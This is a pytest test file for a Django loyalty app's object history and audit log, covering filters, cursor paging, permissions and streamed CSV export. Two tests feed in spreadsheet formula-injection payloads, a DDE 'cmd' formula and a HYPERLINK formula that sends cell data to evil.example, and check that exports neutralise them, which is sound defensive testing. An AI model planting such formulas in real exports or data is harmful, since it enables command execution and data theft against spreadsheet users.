"""Per-object history and the audit log (JSON pages and streamed CSV)."""

import base64
import csv
import io
import json

import pytest
from django.test import Client

from ledger import services
from ledger.models import Stamp
from loyalty.audit import Channel
from tests.api.conftest import StaffClient

pytestmark = pytest.mark.django_db

VERSION_KEYS = {"history_id", "history_date", "history_type", "actor", "channel", "reason"}
VERSION_KEYS |= {"changes"}


def test_stamp_history_after_a_staff_deduction(world, api_support):
    stamp = world["stamp"]
    api_support.post(f"stamps/{stamp.pk}/deduct/", {"reason": "double scan"})
    response = api_support.get(f"stamps/{stamp.pk}/history/")
    assert response.status_code == 200
    versions = response.json()
    assert versions[0].keys() >= VERSION_KEYS
    newest, created = versions[0], versions[-1]
    assert (newest["history_type"], newest["actor"], newest["channel"], newest["reason"]) == (
        "~",
        "support-1",
        "staff-api",
        "double scan",
    )
    assert newest["changes"] == [
        {
            "field": "count",
            "field_label": "Count",
            "old": 2,
            "new": 1,
            "old_label": "2",
            "new_label": "1",
        }
    ]
    assert created["history_type"] == "+" and created["actor"] == "system"


def test_partner_actions_show_the_partner_name(world, api_auditor):
    versions = api_auditor.get(f"point-transactions/{world['deduction'].pk}/history/").json()
    assert versions[0]["actor"] == "Partner A" and versions[0]["channel"] == "points-api"


def test_history_of_an_unknown_object_is_404(world, api_auditor):
    assert api_auditor.get("customers/99999/history/").status_code == 404


def test_audit_log_filters_and_order(world, api_support, api_auditor):
    api_support.post(f"balance-updates/{world['credit'].pk}/cancel/", {"reason": "Wrong customer"})
    body = api_auditor.get("audit-log/").json()
    dates = [row["history_date"] for row in body["results"]]
    assert dates == sorted(dates, reverse=True)
    staff = api_auditor.get("audit-log/", {"channel": "staff-api"}).json()["results"]
    assert {(r["model"], r["actor"], r["reason"]) for r in staff} == {
        ("balanceupdate", "support-1", "Wrong customer"),
        ("customer", "support-1", "Wrong customer"),
    }
    assert {r["object_id"] for r in staff if r["model"] == "balanceupdate"} == {world["credit"].pk}
    by_q = api_auditor.get("audit-log/", {"q": "wrong cust"}).json()["results"]
    assert len(by_q) == 2
    by_actor = api_auditor.get("audit-log/", {"actor": "Partner A"}).json()["results"]
    assert {r["channel"] for r in by_actor} == {"points-api"}
    by_model = api_auditor.get("audit-log/", {"model": "stamp"}).json()["results"]
    assert {r["model"] for r in by_model} == {"stamp"}
    other = api_auditor.get("audit-log/", {"merchant": world["merchant"].pk + 1000}).json()
    assert other["results"] == []
    assert api_auditor.get("audit-log/", {"until": "2000-01-01T00:00:00Z"}).json()["results"] == []


def test_audit_log_cursor_pages_cover_everything_once(world, api_auditor):
    for _ in range(5):
        services.stamp_add(actor=None, channel=Channel.COMMAND, stamp=world["stamp"])
    everything = api_auditor.get("audit-log/", {"page_size": 200}).json()
    assert everything["next"] is None
    expected = [(r["model"], r["history_id"]) for r in everything["results"]]
    seen, url = [], "audit-log/?page_size=3"
    while url:
        body = api_auditor.get(url).json()
        assert len(body["results"]) <= 3
        seen += [(r["model"], r["history_id"]) for r in body["results"]]
        url = body["next"] and body["next"].removeprefix("http://testserver")
    assert seen == expected


def test_audit_log_csv_streams_the_same_rows(world, api_support, api_auditor):
    api_support.post(f"stamps/{world['stamp'].pk}/deduct/", {"reason": "=cmd|' /C calc'!A0"})
    response = api_auditor.get("audit-log/", {"format": "csv", "channel": "staff-api"})
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:6] == [
        "history_date",
        "model",
        "object_id",
        "history_id",
        "history_type",
        "actor",
    ]
    assert len(rows) == 2
    assert rows[1][1] == "stamp" and rows[1][5] == "support-1"
    assert rows[1][8] == "'=cmd|' /C calc'!A0"  # spreadsheet formula neutralised
    json_rows = api_auditor.get("audit-log/", {"channel": "staff-api"}).json()["results"]
    assert [int(r[3]) for r in rows[1:]] == [r["history_id"] for r in json_rows]


def test_history_needs_the_historical_view_permission(world, norole, api_auditor):
    from django.contrib.auth.models import Permission

    from tests.api.conftest import token_for

    norole.user_permissions.add(Permission.objects.get(codename="view_stamp"))
    api = StaffClient(token_for(norole))
    assert api.get(f"stamps/{world['stamp'].pk}/").status_code == 200
    assert api.get(f"stamps/{world['stamp'].pk}/history/").status_code == 403
    assert api.get("audit-log/").status_code == 403
    assert Stamp.objects.count() == 1


def test_history_streams_every_version_and_pages_on_request(world, api_auditor):
    """Every version by default (streamed, in keyset batches), or pages with a Link header."""
    customer = world["customer"]
    for _ in range(30):
        services.points_credit(actor=None, channel=Channel.COMMAND, customer=customer, points=1)
    path = f"customers/{customer.pk}/history/"
    response = api_auditor.get(path)
    assert response.status_code == 200 and response.streamed
    everything = response.json()
    assert len(everything) == customer.history.count() > 30
    ids = [v["history_id"] for v in everything]
    assert ids == sorted(ids, reverse=True)
    [change] = everything[0]["changes"]
    assert change["field"] == "points" and change["new"] - change["old"] == 1

    pages, url = [], f"{path}?limit=7"
    while url:
        page = api_auditor.get(url)
        assert page.status_code == 200
        assert len(page.json()) <= 7
        pages += page.json()
        link = page.get("Link")
        url = link[1 : link.index(">")].removeprefix("http://testserver") if link else None
    assert pages == everything  # the same versions, the same changes, across page borders

    for bad in ("0", "1001", "x", "-1", "1.5", "١٢", "9" * 30):
        assert api_auditor.get(path, {"limit": bad}).status_code == 400, bad
    assert api_auditor.get(path, {"before": "0"}).status_code == 400


def _cursor(moment: str, model: str = "customer", history_id: int = 1) -> str:
    raw = json.dumps([moment, model, history_id]).encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


@pytest.mark.parametrize("fmt", ["json", "csv"])
@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"since": "9999-12-31T23:59:59.999999-01:00"}, "since"),  # year 10000 in UTC
        ({"cursor": _cursor("2026-01-01T00:00:00+23:59")}, "cursor"),
        ({"cursor": _cursor("2026-01-01T00:00:00-17:26")}, "cursor"),
        ({"cursor": _cursor("9999-12-31T23:59:59-01:00")}, "cursor"),
    ],
)
def test_audit_log_refuses_values_out_of_range_in_the_error_shape(
    world, api_auditor, params, field, fmt
):
    response = api_auditor.get("audit-log/", {**params, "format": fmt})
    assert response.status_code == 400
    body = response.json()
    assert body["code"] == "invalid" and field in body["fields"], body


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_audit_log_takes_the_last_day_python_holds(world, api_auditor, fmt):
    # An instant (until is exclusive): 9999-12-31T00:00Z is one PostgreSQL and Python hold.
    params = {"since": "9999-12-31", "until": "9999-12-31", "format": fmt}
    response = api_auditor.get("audit-log/", params)
    assert response.status_code == 200


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("lead", ["\uff1d", "\uff0b", "\uff0d", "\uff20", "="])
def test_every_csv_export_neutralises_formulas_in_every_text_cell(
    world, api_support, api_auditor, auditor, lead
):
    # Fullwidth = + - @ are folded to ASCII by spreadsheets that evaluate them; the request
    # id comes from the client's X-Request-ID, which may start with "-".
    reason = lead + 'HYPERLINK("http://evil.example/?"&A1,"open")'
    response = api_support.post(
        f"stamps/{world['stamp'].pk}/deduct/",
        {"reason": reason},
        headers={"X-Request-ID": "-A1:A9"},
    )
    assert response.status_code == 200
    admin = Client()
    admin.force_login(auditor)
    exports = {
        "staff API": _csv_rows(
            api_auditor.get("audit-log/", {"format": "csv", "channel": "staff-api"})
        ),
        "admin": _csv_rows(admin.get("/admin/audit-log.csv", {"channel": "staff-api"})),
    }
    for name, rows in exports.items():
        header, body = rows[0], rows[1:]
        assert len(body) == 1, name
        row = dict(zip(header, body[0], strict=True))
        assert row["reason"] == "'" + reason, name
        assert row["request_id"] == "'-A1:A9", name
